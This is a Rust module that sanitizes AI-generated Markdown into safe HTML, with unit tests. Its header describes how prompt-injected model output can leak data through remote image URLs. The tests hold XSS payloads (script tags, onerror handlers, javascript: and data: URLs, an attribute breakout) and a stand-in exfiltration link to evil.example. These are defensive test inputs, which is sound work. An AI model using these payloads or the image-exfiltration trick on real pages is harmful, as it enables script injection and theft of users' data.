//! Markdown from a model, rendered to HTML that is safe to place in the page.
//!
//! Model and tool output is untrusted: a prompt injection can make a model write anything. So
//! no HTML written in the Markdown reaches the page as markup (it is shown as text), links
//! keep only `http`, `https` and `mailto` targets (or the page's own paths) and open in a new
//! tab without an opener, and images are not loaded: a remote image would fetch an address
//! the model chose the moment the answer renders, which is how injected prompts smuggle data
//! out. Images become links the person can choose to follow.

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};
use pulldown_cmark_escape::{escape_href, escape_html};

/// The HTML for `markdown`.
pub fn to_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES;
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, Sanitized::new(Parser::new_ext(markdown, options)));
    out
}

/// Whether a link target may be followed: absolute `http(s)`/`mailto`, or a path, query or
/// fragment of this site. Anything else (`javascript:`, `data:`, `vbscript:`, `file:`, and
/// whatever a browser might read as a scheme) is dropped.
pub fn safe_url(url: &str) -> bool {
    let url = url.trim();
    // Browsers ignore tabs and newlines inside a scheme ("java\tscript:").
    if url.chars().any(|c| c.is_control()) {
        return false;
    }
    match url.find(':') {
        None => true,
        Some(colon) => {
            // A colon after the first `/`, `?` or `#` is part of a path, not a scheme.
            if url[..colon].contains(['/', '?', '#']) {
                return true;
            }
            let scheme = url[..colon].to_ascii_lowercase();
            matches!(scheme.as_str(), "http" | "https" | "mailto")
        }
    }
}

/// Rewrites the parser's events so that only markup this module writes reaches the output.
struct Sanitized<'a, I> {
    inner: I,
    /// Links opened, and whether each was written as `<a>` (an unsafe one is dropped, but
    /// its text stays), so that each end tag matches its start.
    open_links: Vec<bool>,
    _marker: std::marker::PhantomData<&'a ()>,
}

impl<'a, I: Iterator<Item = Event<'a>>> Sanitized<'a, I> {
    fn new(inner: I) -> Self {
        Self {
            inner,
            open_links: Vec::new(),
            _marker: std::marker::PhantomData,
        }
    }

    fn open_link(&mut self, url: &str, title: &str, prefix: &str) -> Event<'a> {
        if !safe_url(url) {
            self.open_links.push(false);
            return Event::Text(CowStr::from(prefix.to_owned()));
        }
        self.open_links.push(true);
        let mut tag = String::from("<a href=\"");
        // Writing to a String cannot fail.
        let _ = escape_href(&mut tag, url.trim());
        tag.push('"');
        if !title.is_empty() {
            tag.push_str(" title=\"");
            let _ = escape_html(&mut tag, title);
            tag.push('"');
        }
        // Only links leaving the site open a new tab; `noopener` keeps the new page from
        // reaching this one, `noreferrer` keeps the conversation's address to ourselves.
        if url.contains(':') {
            tag.push_str(" target=\"_blank\" rel=\"noopener noreferrer nofollow\"");
        }
        tag.push('>');
        tag.push_str(prefix);
        Event::Html(CowStr::from(tag))
    }

    fn close_link(&mut self) -> Event<'a> {
        if self.open_links.pop().unwrap_or(false) {
            Event::Html(CowStr::Borrowed("</a>"))
        } else {
            Event::Text(CowStr::Borrowed(""))
        }
    }
}

impl<'a, I: Iterator<Item = Event<'a>>> Iterator for Sanitized<'a, I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        let event = self.inner.next()?;
        Some(match event {
            // Raw HTML in the Markdown is shown as what it is: text.
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::Link {
                dest_url, title, ..
            }) => self.open_link(&dest_url, &title, ""),
            Event::End(TagEnd::Link) => self.close_link(),
            Event::Start(Tag::Image {
                dest_url, title, ..
            }) => self.open_link(&dest_url, &title, "Image: "),
            Event::End(TagEnd::Image) => self.close_link(),
            // A code block's language ends up in a class name; keep it to a plain word.
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(lang))) => {
                let lang: String = lang
                    .split(|c: char| c.is_whitespace() || c == ',' || c == '{')
                    .next()
                    .unwrap_or("")
                    .chars()
                    .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '#'))
                    .take(32)
                    .collect();
                Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(CowStr::from(lang))))
            }
            other => other,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn raw_html_is_text() {
        let html = to_html(
            "Hi <script>alert(1)</script> and <img src=x onerror=alert(2)>\n\n<div onclick=\"x()\">block</div>",
        );
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<div"), "{html}");
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{html}"
        );
    }

    #[test]
    fn unsafe_links_lose_their_target() {
        for url in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox",
        ] {
            let html = to_html(&format!("[click]({url})"));
            assert!(!html.contains("<a"), "{url}: {html}");
            assert!(html.contains("click"), "{url}: {html}");
        }
        let html = to_html("<javascript:alert(1)>");
        assert!(!html.contains("href"), "{html}");
    }

    #[test]
    fn safe_links_open_in_a_new_tab_without_opener() {
        let html =
            to_html("[docs](https://example.com/a?b=\"c\") and [here](/p/1) and <mailto:a@b.c>");
        assert!(
            html.contains("<a href=\"https://example.com/a?b=%22c%22\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">docs</a>"),
            "{html}"
        );
        assert!(html.contains("<a href=\"/p/1\">here</a>"), "{html}");
        assert!(html.contains("href=\"mailto:a@b.c\""), "{html}");
    }

    #[test]
    fn images_are_links_not_loads() {
        let html = to_html("![chart](https://evil.example/leak?d=secret)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("href=\"https://evil.example/leak?d=secret\""),
            "{html}"
        );
        assert!(html.contains("Image: chart"), "{html}");
    }

    #[test]
    fn code_tables_and_lists() {
        let html = to_html(
            "```rust\nfn main() { println!(\"<b>\"); }\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n",
        );
        assert!(
            html.contains("<pre><code class=\"language-rust\">"),
            "{html}"
        );
        assert!(html.contains("&lt;b&gt;"), "{html}");
        assert!(html.contains("<table>"), "{html}");
        assert!(html.contains("<td>2</td>"), "{html}");
        assert!(html.contains("checkbox"), "{html}");
    }

    #[test]
    fn code_language_cannot_break_out_of_its_class() {
        let html = to_html("```js\" onmouseover=\"alert(1)\nx\n```");
        assert!(!html.contains("onmouseover=\""), "{html}");
    }
}
